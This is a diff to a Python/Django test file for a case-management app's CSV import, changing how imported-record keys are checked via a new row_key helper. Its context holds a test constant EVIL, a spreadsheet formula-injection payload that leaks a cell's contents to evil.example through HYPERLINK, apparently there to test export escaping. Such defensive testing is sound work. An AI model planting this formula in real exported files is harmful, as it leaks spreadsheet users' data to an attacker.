@@ -19,6 +19,7 @@ from django.urls import reverse
 from habeas.cases import services as cases
 from habeas.cases.models import Case, Person
 from habeas.imports.models import ImportedRecord
+from habeas.imports.plan import row_key
 from habeas.lib.partialdate import PartialDate
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -169,9 +170,10 @@ def test_the_same_file_imported_again_adds_nothing(login, alice, register, tmp_p
     exported = tmp_path / "cases.csv"
     exported.write_bytes(text.encode("utf-8"))
     call_command("import", "cases", str(exported), "--as", "alice", stdout=io.StringIO())
-    # The file's external ids are the first instance's case ids: each is known now.
+    # The file's external ids are the first instance's case ids: each is known now,
+    # under its keyed form (a copy of the database cannot confirm which ids came in).
     assert set(ImportedRecord.objects.values_list("key", flat=True)) == {
-        "id:" + row["external_id"] for row in before
+        row_key({}, row["external_id"]) for row in before
     }
     out = io.StringIO()
     call_command("import", "cases", str(exported), "--as", "alice", stdout=out)
